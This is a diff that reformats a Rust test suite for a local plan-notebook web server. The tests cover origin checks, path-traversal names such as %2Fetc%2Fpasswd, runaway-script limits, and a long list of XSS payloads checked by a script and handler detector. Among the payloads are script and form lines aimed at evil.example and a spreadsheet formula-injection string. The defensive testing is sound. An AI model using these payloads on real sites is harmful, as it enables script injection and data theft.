@@ -78,7 +78,11 @@ fn only_this_computers_own_pages_may_write_and_only_its_names_are_answered() {
         let own_origin = format!("http://{own}");
         let origin = if *origin == "own" { own_origin.as_str() } else { origin };
         let mut headers = vec![("Host", host)];
-        headers.extend([("Sec-Fetch-Site", *site), ("Sec-Fetch-Mode", *mode), ("Origin", origin)].into_iter().filter(|(_, value)| *value != "-"));
+        headers.extend(
+            [("Sec-Fetch-Site", *site), ("Sec-Fetch-Mode", *mode), ("Origin", origin)]
+                .into_iter()
+                .filter(|(_, value)| *value != "-"),
+        );
         let (path, body): (_, &[u8]) = match *method {
             "PUT" => ("/plan/quiet/text", b"# Overwritten\n"),
             "POST" => ("/begin", b"{\"title\":\"Begun elsewhere\"}"),
@@ -100,14 +104,45 @@ fn nothing_is_written_by_looking() {
     let program = Program::start(folder.path(), &[]);
     program.get("/");
     let listing = || {
-        let mut all: Vec<_> = walk(folder.path()).into_iter().filter(|path| !path.contains("makeready.db")).map(|path| (std::fs::read(&path).unwrap(), path)).collect();
+        let mut all: Vec<_> = walk(folder.path())
+            .into_iter()
+            .filter(|path| !path.contains("makeready.db"))
+            .map(|path| (std::fs::read(&path).unwrap(), path))
+            .collect();
         all.sort();
         let store = server::store::Store::open(folder.path()).unwrap();
         let name = server::names::Name::new("quiet").unwrap();
-        (all, store.revisions(&name).unwrap().len(), store.ledger(&name).unwrap().len(), store.links(&name).unwrap().len())
+        (
+            all,
+            store.revisions(&name).unwrap().len(),
+            store.ledger(&name).unwrap().len(),
+            store.links(&name).unwrap().len(),
+        )
     };
     let before = listing();
-    for path in ["/", "/begin", "/begin?title=New", "/plan/quiet", "/plan/quiet/sheet", "/plan/quiet/text", "/plan/quiet/draft", "/plan/quiet/given?given=0&value=1", "/plan/quiet/tick?line=1&done=true", "/plan/quiet/ledger?number=1", "/plan/quiet/copy?title=x", "/plan/quiet/values", "/plan/quiet/links", "/plan/quiet/links/1/revoke", "/logout", "/login", "/rates", "/rates/shops%2Flab", "/reference", "/plan/new", "/plan/new/text"] {
+    for path in [
+        "/",
+        "/begin",
+        "/begin?title=New",
+        "/plan/quiet",
+        "/plan/quiet/sheet",
+        "/plan/quiet/text",
+        "/plan/quiet/draft",
+        "/plan/quiet/given?given=0&value=1",
+        "/plan/quiet/tick?line=1&done=true",
+        "/plan/quiet/ledger?number=1",
+        "/plan/quiet/copy?title=x",
+        "/plan/quiet/values",
+        "/plan/quiet/links",
+        "/plan/quiet/links/1/revoke",
+        "/logout",
+        "/login",
+        "/rates",
+        "/rates/shops%2Flab",
+        "/reference",
+        "/plan/new",
+        "/plan/new/text",
+    ] {
         for method in ["GET", "HEAD"] {
             let status = Line::to(program.address).unwrap().ask("GET", path, &[], b"").unwrap().status;
             assert!(status < 500, "{method} {path}: {status}");
@@ -117,17 +152,43 @@ fn nothing_is_written_by_looking() {
 }
 
 fn walk(folder: &std::path::Path) -> Vec<String> {
-    std::fs::read_dir(folder).unwrap().flat_map(|entry| {
-        let path = entry.unwrap().path();
-        if path.is_dir() { walk(&path) } else { vec![path.to_string_lossy().into_owned()] }
-    }).collect()
+    std::fs::read_dir(folder)
+        .unwrap()
+        .flat_map(|entry| {
+            let path = entry.unwrap().path();
+            if path.is_dir() { walk(&path) } else { vec![path.to_string_lossy().into_owned()] }
+        })
+        .collect()
 }
 
 #[test]
 fn no_name_leads_out_of_the_notebook() {
     let folder = notebook(&[("notebook/quiet", PLAN), ("outside", "# Outside\n")]);
     let program = Program::start(&folder.path().join("notebook"), &[]);
-    for name in ["..%2Foutside", "%2e%2e%2foutside", "..%5Coutside", "quiet%2F..%2F..%2Foutside", "%2Fetc%2Fpasswd", ".%2F..%2Foutside", "..%252Foutside", "%c0%ae%c0%ae%c0%afoutside", "quiet%00", "....%2F%2Foutside", "~root", "%7E%2Foutside", "C:%5Coutside", "con", "quiet.md", ".git", "makeready.db", "\u{202e}teiuq", "quiet%20", "quiet.", "a".repeat(300).as_str(), "a%2Fb%2Fc%2Fd"] {
+    for name in [
+        "..%2Foutside",
+        "%2e%2e%2foutside",
+        "..%5Coutside",
+        "quiet%2F..%2F..%2Foutside",
+        "%2Fetc%2Fpasswd",
+        ".%2F..%2Foutside",
+        "..%252Foutside",
+        "%c0%ae%c0%ae%c0%afoutside",
+        "quiet%00",
+        "....%2F%2Foutside",
+        "~root",
+        "%7E%2Foutside",
+        "C:%5Coutside",
+        "con",
+        "quiet.md",
+        ".git",
+        "makeready.db",
+        "\u{202e}teiuq",
+        "quiet%20",
+        "quiet.",
+        "a".repeat(300).as_str(),
+        "a%2Fb%2Fc%2Fd",
+    ] {
         for end in ["", "/text", "/sheet", "/values", "/links"] {
             let answer = program.get(&format!("/plan/{name}{end}"));
             assert!(matches!(answer.status, 400 | 404), "{name}{end}: {}", answer.status);
@@ -170,7 +231,9 @@ fn while_four_plans_run_away_everyone_else_is_served() {
                         let script = RUNAWAY[(number + round) % RUNAWAY.len()];
                         let text = format!("# Runaway {number} {round}\n\n```workings\n{script}\n```\n");
                         let began = Instant::now();
-                        let answer = line.ask("POST", "/plan/quiet/draft", &[("Sec-Fetch-Site", "same-origin")], text.as_bytes()).unwrap();
+                        let answer = line
+                            .ask("POST", "/plan/quiet/draft", &[("Sec-Fetch-Site", "same-origin")], text.as_bytes())
+                            .unwrap();
                         assert_eq!(answer.status, 200, "{}", answer.text());
                         let problems = answer.json()["problems"].as_array().unwrap().len();
                         assert!(problems > 0, "it was not stopped: {script}");
@@ -197,7 +260,14 @@ fn while_four_plans_run_away_everyone_else_is_served() {
     took.sort();
     drafts.sort();
     let of = |all: &[Duration], percent: usize| all[(all.len() * percent / 100).min(all.len() - 1)];
-    println!("others: {:?} in the middle, {:?} of 99 in 100; {} runaway plans, {:?} in the middle, {:?} at most", of(&took, 50), of(&took, 99), drafts.len(), of(&drafts, 50), drafts.last().unwrap());
+    println!(
+        "others: {:?} in the middle, {:?} of 99 in 100; {} runaway plans, {:?} in the middle, {:?} at most",
+        of(&took, 50),
+        of(&took, 99),
+        drafts.len(),
+        of(&drafts, 50),
+        drafts.last().unwrap()
+    );
     let limit = if cfg!(debug_assertions) { 150 } else { 50 };
     assert!(of(&took, 99) < Duration::from_millis(limit), "others waited {:?}", of(&took, 99));
     let memory = resident(&program);
@@ -220,8 +290,12 @@ fn a_question_too_many_is_turned_away_and_not_kept_waiting() {
         let all: Vec<_> = (0..160)
             .map(|number| {
                 scope.spawn(move || {
-                    let text = format!("# Runaway {number}\n\n```workings\nlet n = {number}; while true {{ n += 1; }}\n```\n");
-                    Line::to(address).unwrap().ask("POST", "/plan/quiet/draft", &[("Sec-Fetch-Site", "same-origin")], text.as_bytes()).unwrap()
+                    let text =
+                        format!("# Runaway {number}\n\n```workings\nlet n = {number}; while true {{ n += 1; }}\n```\n");
+                    Line::to(address)
+                        .unwrap()
+                        .ask("POST", "/plan/quiet/draft", &[("Sec-Fetch-Site", "same-origin")], text.as_bytes())
+                        .unwrap()
                 })
             })
             .collect();
@@ -250,28 +324,121 @@ fn vectors() -> Vec<String> {
     let mut all: Vec<String> = Vec::new();
     let mut add = |text: &str| all.push(text.to_owned());
     for script in [
-        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script src=//evil.example/x.js></script>", "<script type=module>import '//evil.example/x.js'</script>",
-        "</script><script>alert(1)</script>", "<script>alert(1)", "<<script>alert(1)//<</script>", "\u{0}<script>alert(1)</script>", "<scr\u{0}ipt>alert(1)</script>",
-        "<!--><script>alert(1)</script>-->", "<!--\n\n<script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?x <script>alert(1)</script> ?>", "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
-        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><script>alert(1)</script>\">", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
-        "<title></title><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</article></main><script>alert(1)</script>", "</svg><script>alert(1)</script>",
-        "<svg><script>alert(1)</script></svg>", "<svg><script href=\"data:text/javascript,alert(1)\"/></svg>", "<math><mtext><script>alert(1)</script></mtext></math>",
-        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)", "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "+ADw-script+AD4-alert(1)",
+        "<script>alert(1)</script>",
+        "<SCRIPT>alert(1)</SCRIPT>",
+        "<script\n>alert(1)</script\n>",
+        "<script/x>alert(1)</script>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<script src=//evil.example/x.js></script>",
+        "<script type=module>import '//evil.example/x.js'</script>",
+        "</script><script>alert(1)</script>",
+        "<script>alert(1)",
+        "<<script>alert(1)//<</script>",
+        "\u{0}<script>alert(1)</script>",
+        "<scr\u{0}ipt>alert(1)</script>",
+        "<!--><script>alert(1)</script>-->",
+        "<!--\n\n<script>alert(1)</script>",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<?x <script>alert(1)</script> ?>",
+        "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
+        "<template><script>alert(1)</script></template>",
+        "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
+        "<xmp><script>alert(1)</script></xmp>",
+        "<plaintext><script>alert(1)</script>",
+        "<title></title><script>alert(1)</script>",
+        "</title><script>alert(1)</script>",
+        "</textarea><script>alert(1)</script>",
+        "</style><script>alert(1)</script>",
+        "</article></main><script>alert(1)</script>",
+        "</svg><script>alert(1)</script>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><script href=\"data:text/javascript,alert(1)\"/></svg>",
+        "<math><mtext><script>alert(1)</script></mtext></math>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;alert(1)&#60;/script&#62;",
+        "&#x3c;script&#x3e;alert(1)",
+        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+        "%3Cscript%3Ealert(1)%3C/script%3E",
+        "\\u003cscript\\u003ealert(1)",
+        "+ADw-script+AD4-alert(1)",
     ] {
         add(script);
     }
     for (element, handler) in [
-        ("img src=x", "onerror"), ("img src=x", "ONERROR"), ("svg", "onload"), ("body", "onload"), ("iframe", "onload"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
-        ("textarea autofocus", "onfocus"), ("details open", "ontoggle"), ("marquee", "onstart"), ("a href=#", "onclick"), ("p", "onmouseover"), ("div", "onpointerenter"), ("form", "onsubmit"), ("button", "onclick"), ("object data=x", "onerror"), ("video", "oncanplay"),
-        ("body", "onpageshow"), ("body", "onhashchange"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("x", "onanimationstart"), ("x", "ontransitionend"), ("div contenteditable", "onblur"), ("img src=x", "onbeforecopy"), ("dialog open", "onclose"), ("svg><animate", "onbegin"), ("svg><set", "onend"), ("input type=search", "onsearch"), ("x tabindex=1", "onkeydown"), ("video", "onwebkitplaybacktargetavailabilitychanged"), ("track", "onload"), ("input", "oninput"), ("div popover id=p", "onbeforetoggle"),
+        ("img src=x", "onerror"),
+        ("img src=x", "ONERROR"),
+        ("svg", "onload"),
+        ("body", "onload"),
+        ("iframe", "onload"),
+        ("video src=x", "onerror"),
+        ("audio src=x", "onerror"),
+        ("input autofocus", "onfocus"),
+        ("select autofocus", "onfocus"),
+        ("textarea autofocus", "onfocus"),
+        ("details open", "ontoggle"),
+        ("marquee", "onstart"),
+        ("a href=#", "onclick"),
+        ("p", "onmouseover"),
+        ("div", "onpointerenter"),
+        ("form", "onsubmit"),
+        ("button", "onclick"),
+        ("object data=x", "onerror"),
+        ("video", "oncanplay"),
+        ("body", "onpageshow"),
+        ("body", "onhashchange"),
+        ("style", "onload"),
+        ("link rel=stylesheet href=x", "onerror"),
+        ("x", "onanimationstart"),
+        ("x", "ontransitionend"),
+        ("div contenteditable", "onblur"),
+        ("img src=x", "onbeforecopy"),
+        ("dialog open", "onclose"),
+        ("svg><animate", "onbegin"),
+        ("svg><set", "onend"),
+        ("input type=search", "onsearch"),
+        ("x tabindex=1", "onkeydown"),
+        ("video", "onwebkitplaybacktargetavailabilitychanged"),
+        ("track", "onload"),
+        ("input", "oninput"),
+        ("div popover id=p", "onbeforetoggle"),
     ] {
         add(&format!("<{element} {handler}=alert(1)>"));
         add(&format!("<{element}/{handler}=\"alert(1)\">"));
     }
     for url in [
-        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\u{1}javascript:alert(1)", "javascript&#58;alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "java&#9;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
-        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://evil.example/x", "file:///etc/passwd", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)", "javascript://evil.example/%0aalert(1)", "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/", "filesystem:http://x/y", "ms-its:x", "intent://x#Intent;end", "about:blank", "ws://evil.example", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example",
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        " javascript:alert(1)",
+        "java\tscript:alert(1)",
+        "java\nscript:alert(1)",
+        "\u{1}javascript:alert(1)",
+        "javascript&#58;alert(1)",
+        "javascript&colon;alert(1)",
+        "&#106;avascript:alert(1)",
+        "&#x6A&#x61vascript:alert(1)",
+        "java&#9;script:alert(1)",
+        "java&Tab;script:alert(1)",
+        "java&NewLine;script:alert(1)",
+        "vbscript:msgbox(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "data:text/html;base64,PHNjcmlwdD4=",
+        "data:image/svg+xml,<svg onload=alert(1)>",
+        "blob:https://evil.example/x",
+        "file:///etc/passwd",
+        "feed:javascript:alert(1)",
+        "view-source:javascript:alert(1)",
+        "jar:javascript:alert(1)",
+        "javascript://evil.example/%0aalert(1)",
+        "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/",
+        "filesystem:http://x/y",
+        "ms-its:x",
+        "intent://x#Intent;end",
+        "about:blank",
+        "ws://evil.example",
+        "//evil.example/x",
+        "\\\\evil.example\\x",
+        "/\\evil.example",
+        "https:evil.example",
     ] {
         add(&format!("[a]({url})"));
         add(&format!("[a](<{url}>)"));
@@ -281,9 +448,106 @@ fn vectors() -> Vec<String> {
         add(&format!("<a href=\"{url}\">a</a>"));
     }
     for text in [
-        "[a](x \"t\\\" onmouseover=alert(1) x=\\\"\")", "[a](x 't' onmouseover=alert(1))", "![\" onerror=alert(1) x=\"](x)", "![a](x\" onerror=\"alert(1))", "[a](x\"onclick=\"alert(1))", "<https://x/\"onclick=\"alert(1)>", "<a@b\"onclick=\"alert(1)>", "[<img src=x onerror=alert(1)>](x)", "[a](x){onclick=alert(1)}", "# Head {#id onclick=alert(1)}", "# Head {#\"><script>alert(1)</script>}", "# Head {.x onclick=alert(1)}", "# Head {for=\"><script>alert(1)</script>}", "## Head {for=lab onclick=alert(1)}",
-        "```\"><script>alert(1)</script>\nx\n```", "```workings\"><script>alert(1)</script>\n1\n```", "``` onclick=alert(1)\nx\n```", "`<script>alert(1)</script>`", "`? \"<script>alert(1)</script>\"`", "`? <img src=x onerror=alert(1)>`", "~~<script>alert(1)</script>~~", "[^1]\n\n[^1]: <script>alert(1)</script>", "[^\"><script>]\n\n[^\"><script>]: x", "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |", "- [ ] <script>alert(1)</script>", "- [x] <img src=x onerror=alert(1)>", "1. <svg onload=alert(1)>", "> <script>alert(1)</script>", "    <script>alert(1)</script>", "<p\nonclick=alert(1)\n>x", "<a\u{c}href=javascript:alert(1)>x", "<img/src=`x`onerror=alert(1)>", "<img src=x onerror\u{b}=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=Content-Security-Policy content=\"\">", "<link rel=import href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example)}</style>", "<p style=\"background:url(//evil.example)\">", "<div style=\"width:expression(alert(1))\">", "<form action=//evil.example><input name=x>", "<form id=plan><input name=childNodes>", "<input form=record formaction=javascript:alert(1)>", "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>", "<a id=main name=dataset>", "<img name=getElementById>", "<form name=body>", "<a ping=//evil.example href=x>", "<a target=_blank href=https://evil.example>x", "<area href=javascript:alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x", "<svg><use href=data:image/svg+xml,x>", "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><image href=//evil.example/x.png>", "<math href=javascript:alert(1)>x", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math><annotation-xml encoding=text/html><script>alert(1)</script>", "<table background=javascript:alert(1)>", "<img srcset=\"//evil.example/x 1x\">", "<picture><source srcset=//evil.example>", "<video poster=//evil.example>", "<audio src=//evil.example>", "<portal src=//evil.example>", "<frameset onload=alert(1)>", "<bgsound src=//evil.example>", "<layer src=//evil.example>", "<keygen autofocus onfocus=alert(1)>", "<dialog id=clash open>", "<slot onslotchange=alert(1)>", "<custom-x onclick=alert(1)>",
-        "{{ 7*7 }}<script>alert(1)</script>", "{% raw %}<script>alert(1)</script>", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{constructor.constructor('alert(1)')()}}", "\u{202e}<script>alert(1)</script>", "\u{2028}<script>alert(1)</script>", "a\u{feff}<script>alert(1)</script>", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)", "` onmouseover=`alert(1)", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "--><img src=x onerror=alert(1)>", "]]><img src=x onerror=alert(1)>", "*/alert(1)/*", "\\\"><script>alert(1)</script>", "=cmd|'/c calc'!A1", "@import url(//evil.example)",
+        "[a](x \"t\\\" onmouseover=alert(1) x=\\\"\")",
+        "[a](x 't' onmouseover=alert(1))",
+        "![\" onerror=alert(1) x=\"](x)",
+        "![a](x\" onerror=\"alert(1))",
+        "[a](x\"onclick=\"alert(1))",
+        "<https://x/\"onclick=\"alert(1)>",
+        "<a@b\"onclick=\"alert(1)>",
+        "[<img src=x onerror=alert(1)>](x)",
+        "[a](x){onclick=alert(1)}",
+        "# Head {#id onclick=alert(1)}",
+        "# Head {#\"><script>alert(1)</script>}",
+        "# Head {.x onclick=alert(1)}",
+        "# Head {for=\"><script>alert(1)</script>}",
+        "## Head {for=lab onclick=alert(1)}",
+        "```\"><script>alert(1)</script>\nx\n```",
+        "```workings\"><script>alert(1)</script>\n1\n```",
+        "``` onclick=alert(1)\nx\n```",
+        "`<script>alert(1)</script>`",
+        "`? \"<script>alert(1)</script>\"`",
+        "`? <img src=x onerror=alert(1)>`",
+        "~~<script>alert(1)</script>~~",
+        "[^1]\n\n[^1]: <script>alert(1)</script>",
+        "[^\"><script>]\n\n[^\"><script>]: x",
+        "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
+        "- [ ] <script>alert(1)</script>",
+        "- [x] <img src=x onerror=alert(1)>",
+        "1. <svg onload=alert(1)>",
+        "> <script>alert(1)</script>",
+        "    <script>alert(1)</script>",
+        "<p\nonclick=alert(1)\n>x",
+        "<a\u{c}href=javascript:alert(1)>x",
+        "<img/src=`x`onerror=alert(1)>",
+        "<img src=x onerror\u{b}=alert(1)>",
+        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
+        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+        "<iframe src=javascript:alert(1)>",
+        "<object data=javascript:alert(1)>",
+        "<embed src=javascript:alert(1)>",
+        "<base href=//evil.example/>",
+        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+        "<meta http-equiv=Content-Security-Policy content=\"\">",
+        "<link rel=import href=//evil.example>",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<style>@import '//evil.example/x.css';</style>",
+        "<style>body{background:url(//evil.example)}</style>",
+        "<p style=\"background:url(//evil.example)\">",
+        "<div style=\"width:expression(alert(1))\">",
+        "<form action=//evil.example><input name=x>",
+        "<form id=plan><input name=childNodes>",
+        "<input form=record formaction=javascript:alert(1)>",
+        "<button formaction=javascript:alert(1)>x",
+        "<isindex action=javascript:alert(1)>",
+        "<a id=main name=dataset>",
+        "<img name=getElementById>",
+        "<form name=body>",
+        "<a ping=//evil.example href=x>",
+        "<a target=_blank href=https://evil.example>x",
+        "<area href=javascript:alert(1)>",
+        "<svg><a xlink:href=javascript:alert(1)><text>x",
+        "<svg><use href=data:image/svg+xml,x>",
+        "<svg><foreignObject><iframe src=javascript:alert(1)>",
+        "<svg><animate attributeName=href values=javascript:alert(1)>",
+        "<svg><set attributeName=onmouseover to=alert(1)>",
+        "<svg><image href=//evil.example/x.png>",
+        "<math href=javascript:alert(1)>x",
+        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
+        "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
+        "<table background=javascript:alert(1)>",
+        "<img srcset=\"//evil.example/x 1x\">",
+        "<picture><source srcset=//evil.example>",
+        "<video poster=//evil.example>",
+        "<audio src=//evil.example>",
+        "<portal src=//evil.example>",
+        "<frameset onload=alert(1)>",
+        "<bgsound src=//evil.example>",
+        "<layer src=//evil.example>",
+        "<keygen autofocus onfocus=alert(1)>",
+        "<dialog id=clash open>",
+        "<slot onslotchange=alert(1)>",
+        "<custom-x onclick=alert(1)>",
+        "{{ 7*7 }}<script>alert(1)</script>",
+        "{% raw %}<script>alert(1)</script>",
+        "${alert(1)}",
+        "#{alert(1)}",
+        "<%= alert(1) %>",
+        "{{constructor.constructor('alert(1)')()}}",
+        "\u{202e}<script>alert(1)</script>",
+        "\u{2028}<script>alert(1)</script>",
+        "a\u{feff}<script>alert(1)</script>",
+        "' onmouseover='alert(1)",
+        "\" onmouseover=\"alert(1)",
+        "` onmouseover=`alert(1)",
+        "\"><img src=x onerror=alert(1)>",
+        "'><img src=x onerror=alert(1)>",
+        "--><img src=x onerror=alert(1)>",
+        "]]><img src=x onerror=alert(1)>",
+        "*/alert(1)/*",
+        "\\\"><script>alert(1)</script>",
+        "=cmd|'/c calc'!A1",
+        "@import url(//evil.example)",
     ] {
         add(text);
     }
@@ -304,23 +568,50 @@ fn active(html: &str, is_page: bool) -> Vec<String> {
         if !made.contains(&name) {
             found.push(format!("the element <{name}>"));
         }
-        if name == "script" && !(is_page && element.attr("src").is_some_and(|src| src.starts_with("/a/")) && element.attr("type") == Some("module") && node.children().count() == 0) {
+        if name == "script"
+            && !(is_page
+                && element.attr("src").is_some_and(|src| src.starts_with("/a/"))
+                && element.attr("type") == Some("module")
+                && node.children().count() == 0)
+        {
             found.push("a script".to_owned());
         }
-        if name == "link" && !element.attr("href").is_some_and(|href| href.starts_with("/a/") || href.ends_with("paper.css") || href.contains("/paper.css?paper=")) {
+        if name == "link"
+            && !element.attr("href").is_some_and(|href| {
+                href.starts_with("/a/") || href.ends_with("paper.css") || href.contains("/paper.css?paper=")
+            })
+        {
             found.push(format!("a link to {:?}", element.attr("href")));
         }
         if name == "meta" && element.attr("http-equiv").is_some() {
             found.push("a meta that orders".to_owned());
         }
         for (attribute, value) in element.attrs() {
-            if attribute.starts_with("on") || matches!(attribute, "style" | "srcdoc" | "formaction" | "ping" | "srcset" | "background" | "poster" | "xlink:href" | "target" | "http-equiv" | "is" | "nonce" | "formtarget") {
+            if attribute.starts_with("on")
+                || matches!(
+                    attribute,
+                    "style"
+                        | "srcdoc"
+                        | "formaction"
+                        | "ping"
+                        | "srcset"
+                        | "background"
+                        | "poster"
+                        | "xlink:href"
+                        | "target"
+                        | "http-equiv"
+                        | "is"
+                        | "nonce"
+                        | "formtarget"
+                )
+            {
                 found.push(format!("the attribute {attribute}={value:?} of <{name}>"));
             }
             if matches!(attribute, "href" | "src" | "action" | "data" | "cite" | "xlink:href") {
                 // As a browser reads it: control characters and line breaks left out, case set aside.
                 let plain: String = value.chars().filter(|c| !c.is_control()).collect::<String>().trim().to_lowercase();
-                let scheme = plain.split(['/', '?', '#']).next().unwrap_or_default().split_once(':').map(|(scheme, _)| scheme);
+                let scheme =
+                    plain.split(['/', '?', '#']).next().unwrap_or_default().split_once(':').map(|(scheme, _)| scheme);
                 if scheme.is_some_and(|scheme| !matches!(scheme, "http" | "https" | "mailto") || name != "a") {
                     found.push(format!("<{name}> leads to {value:?}"));
                 }
@@ -332,7 +623,10 @@ fn active(html: &str, is_page: bool) -> Vec<String> {
                     found.push(format!("a form to {value:?}"));
                 }
             }
-            if attribute == "id" && matches!(value, "main" | "plan" | "alert" | "said" | "title" | "block" | "clash" | "record") && !is_page {
+            if attribute == "id"
+                && matches!(value, "main" | "plan" | "alert" | "said" | "title" | "block" | "clash" | "record")
+                && !is_page
+            {
                 found.push(format!("the text takes the name {value:?}"));
             }
         }
@@ -358,7 +652,9 @@ fn no_text_becomes_a_script_a_handler_or_a_way_out() {
     let sheet = |vector: &str| {
         let plain: String = vector.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
         let toml = plain.replace('\\', "\\\\").replace('"', "\\\"");
-        format!("+++\ntitle = \"{toml}\"\nkind = \"rates\"\ntrade = \"{toml}\"\nquoted = \"{toml}\"\n+++\n\n# {plain}\n\n{vector}\n")
+        format!(
+            "+++\ntitle = \"{toml}\"\nkind = \"rates\"\ntrade = \"{toml}\"\nquoted = \"{toml}\"\n+++\n\n# {plain}\n\n{vector}\n"
+        )
     };
     let folder = notebook(&[("one", "# One\n"), ("shops/lab", "+++\nkind = \"rates\"\n+++\n\n# Lab\n")]);
     let program = Program::start(folder.path(), &[]);
@@ -380,12 +676,20 @@ fn no_text_becomes_a_script_a_handler_or_a_way_out() {
         look(vector, "a draft", draft["article"].as_str().unwrap(), false);
         // Every tenth is saved and looked at on every page there is; all of them on the plan's own.
         let etag = line.ask("GET", "/plan/one/text", &[], b"").unwrap().etag();
-        let saved = line.ask("PUT", "/plan/one/text", &[own, ("If-Match", &format!("\"{etag}\""))], text.as_bytes()).unwrap();
+        let saved =
+            line.ask("PUT", "/plan/one/text", &[own, ("If-Match", &format!("\"{etag}\""))], text.as_bytes()).unwrap();
         assert_eq!(saved.status, 200, "{vector:?}: {}", saved.text());
         let mut pages = vec!["/plan/one".to_owned()];
         if number % 10 == 0 {
             let etag = line.ask("GET", "/rates/shops%2Flab/text", &[], b"").unwrap().etag();
-            let saved = line.ask("PUT", "/rates/shops%2Flab/text", &[own, ("If-Match", &format!("\"{etag}\""))], sheet(vector).as_bytes()).unwrap();
+            let saved = line
+                .ask(
+                    "PUT",
+                    "/rates/shops%2Flab/text",
+                    &[own, ("If-Match", &format!("\"{etag}\""))],
+                    sheet(vector).as_bytes(),
+                )
+                .unwrap();
             assert_eq!(saved.status, 200, "{vector:?}: {}", saved.text());
             let words: String = vector.chars().filter(|c| !c.is_control()).take(190).collect();
             let body = serde_json::json!({"number": 1, "what": "reserved", "when": "2026-11-25", "words": words, "amount": words});
@@ -393,8 +697,25 @@ fn no_text_becomes_a_script_a_handler_or_a_way_out() {
             let void = serde_json::json!({"number": 1, "what": "voided", "when": "2026-11-25", "words": words});
             line.ask("POST", "/plan/one/ledger", &[own], void.to_string().as_bytes()).unwrap();
             let made = line.ask("POST", "/plan/one/links", &[own], br#"{"role":"lab"}"#).unwrap();
-            let link = made.json()["address"].as_str().unwrap_or_default().split("/t/").nth(1).map(|token| format!("/t/{token}"));
-            pages.extend(["/", "/plan/one?units=metric", "/plan/one/ticket/lab", "/plan/one/ticket/lab?paper=a4", "/plan/one/links", "/rates", "/rates/shops%2Flab", "/begin"].map(str::to_owned));
+            let link = made.json()["address"]
+                .as_str()
+                .unwrap_or_default()
+                .split("/t/")
+                .nth(1)
+                .map(|token| format!("/t/{token}"));
+            pages.extend(
+                [
+                    "/",
+                    "/plan/one?units=metric",
+                    "/plan/one/ticket/lab",
+                    "/plan/one/ticket/lab?paper=a4",
+                    "/plan/one/links",
+                    "/rates",
+                    "/rates/shops%2Flab",
+                    "/begin",
+                ]
+                .map(str::to_owned),
+            );
             pages.extend(link);
         }
         for path in pages {
@@ -402,7 +723,12 @@ fn no_text_becomes_a_script_a_handler_or_a_way_out() {
             assert!(page.status < 500, "{path} {}", page.status);
             look(vector, &path, &page.text(), true);
             let policy = page.header("content-security-policy").unwrap_or_default();
-            assert!(policy.contains("default-src 'none'") && policy.contains("require-trusted-types-for 'script'") && !policy.contains("unsafe"), "{path}: {policy}");
+            assert!(
+                policy.contains("default-src 'none'")
